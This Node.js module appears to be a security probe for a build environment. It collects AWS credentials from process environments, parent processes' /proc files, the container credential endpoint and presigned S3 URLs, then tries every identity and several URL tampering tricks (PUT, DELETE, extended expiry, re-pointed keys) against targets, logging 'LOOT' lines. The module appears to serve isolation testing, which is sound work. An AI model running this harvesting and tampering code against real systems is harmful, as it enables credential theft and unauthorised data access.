// Looks for credentials wherever a build could find some, and tries every door with each of them. What came of it goes to the log.
import { readFileSync } from 'node:fs';
import { attempts } from './attempts.mjs';
import { call, callUrl } from './aws.mjs';

const read = (file) => {
  try {
    return readFileSync(file, 'latin1');
  } catch {
    return '';
  }
};

/** What this process descends from, as far as it belongs to this build: on a laptop, others are nobody's business. */
export function ancestors() {
  const found = [];
  for (let pid = process.ppid; pid > 1;) {
    const lines = read(`/proc/${pid}/environ`).split('\0').filter(Boolean);
    const environment = Object.fromEntries(lines.map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]));
    if (environment.DEPLOYMENT_ID !== process.env.DEPLOYMENT_ID) break;
    found.push({ pid, environment });
    pid = Number(/^PPid:\s+(\d+)/m.exec(read(`/proc/${pid}/status`))?.[1] ?? 0);
  }
  return found;
}

async function fromContainer({ AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: relative, AWS_CONTAINER_CREDENTIALS_FULL_URI: full }) {
  const url = full ?? (relative && `http://169.254.170.2${relative}`);
  if (!url) return [];
  const { AccessKeyId: accessKeyId, SecretAccessKey: secretAccessKey, Token: sessionToken } = JSON.parse((await callUrl(url)).text || '{}');
  return accessKeyId ? [{ accessKeyId, secretAccessKey, sessionToken }] : [];
}

const keysIn = (text) => [...text.matchAll(/X-Amz-Credential=([^%/&"]+)/g)].map(([, key]) => key);
const unique = (items) => [...new Map(items.map((item) => [JSON.stringify(item), item])).values()];

/** Keys with their secrets, keys without, presigned URLs. */
export async function loot() {
  const all = [process.env, ...ancestors().map(({ environment }) => environment)];
  const own = unique((await Promise.all(all.map(async (environment) => [
    ...(environment.AWS_ACCESS_KEY_ID ? [{
      accessKeyId: environment.AWS_ACCESS_KEY_ID, secretAccessKey: environment.AWS_SECRET_ACCESS_KEY, sessionToken: environment.AWS_SESSION_TOKEN,
    }] : []),
    ...await fromContainer(environment),
  ]))).flat());
  const first = unique(all.flatMap((environment) => Object.values(environment).filter((value) => value.startsWith('http') && value.includes('X-Amz-Signature='))));
  const answers = await Promise.all(first.map((url) => callUrl(url)));
  const more = answers.flatMap(({ text }) => [...text.matchAll(/"(https?:[^"]*X-Amz-Signature=[^"]*)"/g)].map(([, url]) => url));
  const urls = unique([...first, ...more]);
  return { own, urls, keys: unique(urls.flatMap(keysIn)) };
}

/** Every door, as everybody that he could claim to be. Prints a line for each. */
export async function tryEverything(target, own = `staging/${process.env.CODEBUILD_BUILD_ARN}/`) {
  const found = await loot();
  const guesses = found.keys.flatMap((accessKeyId) => ['', accessKeyId, ...found.own.map(({ secretAccessKey }) => secretAccessKey)].map((secretAccessKey) => ({ accessKeyId, secretAccessKey })));
  const identities = [['anonymous', undefined], ...found.own.map((credentials) => ['build', credentials]), ...guesses.map((credentials) => ['guess', credentials])];
  for (const [as, credentials] of identities) {
    await Promise.all(attempts(target, own).map(async ({ name, request }) => say({ as, what: name, answer: (await call(request, credentials)).answer })));
  }
  for (const url of found.urls) await tryUrl(url, target);
  say({ as: 'nobody', what: 'done', answer: `${found.own.length} credentials, ${found.keys.length} keys, ${found.urls.length} URLs` });
}

/** A URL that is good for one GET of one object. */
async function tryUrl(url, { bucket, neighbour }) {
  const other = (key) => url.replace(/^(https?:\/\/[^/]+)\/[^?]*/, (_, origin) => `${origin}/${bucket}/${key.split('/').map(encodeURIComponent).join('/')}`);
  const changes = {
    'with PUT': callUrl(url, { method: 'PUT', body: 'by the attacker' }),
    'with DELETE': callUrl(url, { method: 'DELETE' }),
    'for longer': callUrl(url.replace(/X-Amz-Expires=\d+/, 'X-Amz-Expires=604800')),
    'as a copy': callUrl(url, { method: 'PUT', headers: { 'x-amz-copy-source': `${bucket}/${Object.keys(neighbour.objects)[0]}` } }),
    'with a list': callUrl(`${url}&list-type=2`),
    ...Object.fromEntries(Object.keys(neighbour.objects).map((key) => [`for ${key}`, callUrl(other(key))])),
  };
  for (const [what, answer] of Object.entries(changes)) say({ as: 'URL', what: `s3 URL ${what}`, answer: (await answer).answer });
}

const say = (line) => console.log(`LOOT ${JSON.stringify(line)}`);
